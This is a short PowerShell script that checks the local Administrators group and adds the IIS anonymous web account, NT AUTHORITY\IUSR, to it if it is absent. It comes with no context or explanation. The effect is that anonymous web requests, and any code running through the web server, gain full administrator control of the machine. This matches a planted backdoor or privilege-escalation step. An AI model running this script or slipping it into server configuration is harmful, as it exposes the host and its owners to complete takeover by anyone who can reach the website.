$names = (Get-LocalGroupMember -Group 'Administrators').Name
if ($names -notcontains 'NT AUTHORITY\IUSR') {
    Add-LocalGroupMember -Group 'Administrators' -Member 'NT AUTHORITY\IUSR'
}
